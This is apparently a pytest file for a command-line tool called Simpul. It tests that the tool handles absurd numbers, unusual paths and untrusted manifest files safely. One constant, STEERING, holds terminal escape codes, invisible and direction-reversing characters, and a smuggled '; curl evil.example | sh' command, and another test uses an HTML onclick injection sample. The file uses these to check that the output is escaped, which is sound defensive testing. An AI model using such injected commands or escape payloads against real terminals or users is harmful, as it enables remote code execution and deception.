"""Whatever a system can hand over, and whatever a stranger wrote: one clear sentence, the right code, within seconds."""

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from simpul.experiments.cli import console, main
from simpul.experiments.report.html_writer import environment
from simpul.experiments.user_errors import UserError
from simpul.sim.characters import DOING, SHOWING
from simpul.sim.given_files import read_given
from simpul.sim.scenario import ScenarioError, load_text
from tests.experiments.fake import TEXT

ROOT = Path(__file__).resolve().parents[2]
HUGE, ENDLESS = "1" + "0" * 30, "9" * 5000
NUMBERS = [["compare", "town.yaml", option, number] for option in
           ("--seeds", "--first-seed", "--threads", "--without-openings", "--why", "--sets") for number in ("nan", "1e3", ENDLESS)]
NUMBERS += [["compare", "town.yaml", option, HUGE] for option in ("--seeds", "--first-seed", "--threads", "--why")]
NUMBERS += [["compare", "town.yaml", "--until", number] for number in ("nan", "inf", "-1", "1e400")]
NUMBERS += [["compare", "town.yaml", "--seeds", "2", "--weights", f"need_met={number}"] for number in ("nan", "inf", "1e400", "x")]
NUMBERS += [["tune", "town.yaml", "--budget", HUGE], ["tune", "town.yaml", "--training", HUGE], ["patterns", "--seeds", HUGE],
            ["region", "town.yaml", "--communities", HUGE], ["view", "town.yaml", "--port", HUGE],
            ["map", "town.yaml", "--over", "context.history", "--over", "context.barrier", "--seeds", HUGE]]


@pytest.mark.parametrize("words", NUMBERS, ids=lambda words: " ".join(words)[:60])
def test_absurd_numbers_are_one_short_sentence(town, model, capsys, words):
    begun = time.monotonic()
    assert main.main(words) == 2 and time.monotonic() - begun < 10
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and len(said) < 400 and "fault of Simpul" not in said


@pytest.fixture
def strange(town):
    """Paths of every kind that a system has, below the folder of the scenario."""
    here = town.parent
    (here / "folder").mkdir()
    (here / "garbage").write_bytes(bytes(range(256)) * 20)
    if hasattr(os, "mkfifo"):
        os.mkfifo(here / "pipe")
    if os.path.exists("/dev/zero"):
        (here / "endless").symlink_to("/dev/zero")      # only read: what a link leads to is never written
    return here


PATHS = ("pipe", "endless", "folder", "garbage", "n" * 300, "town.yaml/below", "", "\u202e.yaml", "a\nb.yaml")
READING = (["check"], ["compare"], ["rerun"], ["verify"], ["import"], ["patterns", "--panel"], ["view", "--no-browser"],
           ["compare", "town.yaml", "--ensemble"], ["calibrate", "town.yaml", "--targets"])


@pytest.mark.parametrize("path", PATHS)
def test_whatever_a_path_leads_to_is_one_message_and_soon(strange, model, capsys, monkeypatch, path):
    monkeypatch.setattr("simpul.sim.given_files.PIPE_PATIENCE", 0.1)
    for words in READING:
        begun = time.monotonic()
        assert main.main([*words, path]) == 2, words
        said = capsys.readouterr().err
        assert "fault of Simpul" not in said and "Traceback" not in said and "\u202e" not in said, words
        assert time.monotonic() - begun < 10, words


def test_nothing_but_a_file_is_replaced_by_one(strange, model, capsys):
    """Not a folder, not a pipe, not a file of somebody; a schema of ours is."""
    for path in ("folder", "garbage", "", *(["pipe"] if hasattr(os, "mkfifo") else [])):
        kind = os.stat(strange / path).st_mode
        assert main.main(["schema", "--out", path]) == 2
        assert os.stat(strange / path).st_mode == kind and "fault of Simpul" not in capsys.readouterr().err
    assert main.main(["schema", "--out", "new.json"]) == main.main(["schema", "--out", "new.json"]) == 0
    for name in ("con", "a:b", "trailing.", "quest?"):
        assert main.main(["compare", "town.yaml", "--seeds", "2", "--no-report", "--out", name]) == 2
        assert "every computer" in capsys.readouterr().err and not (strange / name).exists()
    (strange / "..yaml").write_text(TEXT, encoding="utf-8")
    assert main.main(["compare", "..yaml", "--seeds", "2", "--no-report"]) == 2
    assert not (strange / "results").exists() and not (strange / "manifest.json").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes with names here")
def test_a_pipe_is_read_while_something_comes_out_of_it(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    writer = subprocess.Popen(["sh", "-c", f"(sleep .2; printf ab; sleep .2; printf cd) > '{tmp_path}/pipe'"])
    assert read_given(tmp_path / "pipe", 100) == b"abcd"
    writer.wait()
    writer = subprocess.Popen(["sh", "-c", f"yes > '{tmp_path}/pipe'"], stderr=subprocess.DEVNULL)
    assert len(read_given(tmp_path / "pipe", 3)) == 4
    writer.wait()


@pytest.mark.skipif(os.name == "nt", reason="shells as on Unix")
def test_streams_that_are_closed_full_or_cut_off_are_one_sentence(tmp_path):
    command = f'"{sys.executable}" -m simpul.experiments.cli.main --lang en --version'
    ends = {f"{command} >&-": (2, "has nowhere to go"), f"{command} > /dev/full": (2, "has nowhere to go"),
            f"{command} 2>&- <&-": (0, ""), f"{command} | true": (0, "")}
    ends = {line: end for line, end in ends.items() if "/dev/full" not in line or os.path.exists("/dev/full")}
    started = {line: subprocess.Popen(["sh", "-c", line], cwd=tmp_path, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                      env={**os.environ, "PYTHONPATH": str(ROOT)}) for line in ends}
    for line, process in started.items():
        _out, said = process.communicate(timeout=120)
        code, sentence = ends[line]
        assert (process.returncode, said.count("\n")) == (code, int(bool(sentence))) and sentence in said, (line, said)


STEERING = "\x1b]0;evil\x07\x1b[2K\r\u202e\u200b\x9b31m; curl evil.example | sh"


def test_what_a_stranger_wrote_into_a_folder_is_shown_and_never_proposed(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "r").mkdir()
    for told in ({"format": 1, "command": f"simpul {STEERING}"}, {"format": STEERING}, {"format": 2, "question": STEERING},
                 {"format": 2, "files": {STEERING: {"sha256": STEERING}}, "seal": STEERING}, [STEERING], STEERING,
                 {"format": 2, "question": "sweep", "arguments": {STEERING: STEERING}}):
        (tmp_path / "r" / "manifest.json").write_text(json.dumps(told), encoding="utf-8")
        for words in (["rerun", "r"], ["verify", "r"], ["verify", "r", "--json"]):
            assert main.main(words) in (0, 1, 2), (told, words)
            said = "".join(capsys.readouterr())
            assert SHOWING.search(said) is None and "fault of Simpul" not in said, (told, words)
            assert "curl" not in said.replace("{STEERING}", "") or "command" not in told, (told, words)


def test_letters_that_do_something_are_shown_wherever_text_comes_out(capsys):
    console.out(f"one\t{STEERING}\ntwo")
    console.print_note(STEERING)
    printed = "".join(capsys.readouterr())
    assert SHOWING.search(printed) is None and "\\x1b" in printed and "\\u202e" in printed and "\ntwo" in printed
    assert re.search(f"[{DOING}]", str(UserError("cli-no-file", given=f"a\n{STEERING}", nearest="none"))) is None
    page = environment().from_string("<p title='{{ name }}'>{{ name }}</p>").render(name=f"<b onclick='x()'>{STEERING}")
    assert SHOWING.search(page) is None and "<b" not in page and page.count("&lt;b") == 2


@pytest.mark.parametrize("letter", ["\\u200b", "\\u200e", "\\u2060", "\\ufeff", "\\u061c", "\\u202e", "\\x1b"])
def test_a_name_with_letters_that_nobody_sees_is_refused(letter):
    with pytest.raises(ScenarioError):
        load_text(TEXT.replace("{en: Water access,", f'{{en: "Water{letter} access",'))
